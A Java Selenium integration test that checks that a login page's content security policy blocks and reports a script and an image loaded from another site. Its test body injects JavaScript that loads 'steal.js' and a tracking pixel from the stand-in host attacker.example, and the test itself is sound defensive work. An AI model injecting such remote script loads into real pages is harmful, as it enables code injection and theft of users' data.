package org.extranet.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import org.extranet.browser.BrowserTest;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.JavascriptExecutor;

/**
 * The content security policy holds in a real browser. Every browser test ends by checking that
 * its pages caused no violation ({@link BrowserTest}); this one shows that such a violation is
 * both blocked and noticed, so that check cannot pass for want of looking.
 */
class ContentSecurityPolicyIT extends BrowserTest {

    @Test
    void a_script_or_image_from_another_site_is_blocked_and_noticed() {
        open("/login");

        ((JavascriptExecutor) driver).executeScript("""
                const script = document.createElement('script');
                script.src = 'https://attacker.example/steal.js';
                document.head.append(script);
                const image = document.createElement('img');
                image.src = 'https://attacker.example/pixel.png';
                document.body.append(image);
                """);

        var violations = new ArrayList<String>();
        waiting(driver).until(browser -> {
            violations.addAll(contentSecurityPolicyViolations(browser));
            return violations.size() >= 2;
        });
        assertThat(violations).anySatisfy(violation -> assertThat(violation).startsWith("script-src")
                .contains("https://attacker.example/steal.js"));
        assertThat(violations).anySatisfy(violation -> assertThat(violation).startsWith("img-src")
                .contains("https://attacker.example/pixel.png"));
        assertThat(violations).hasSize(2);
    }
}
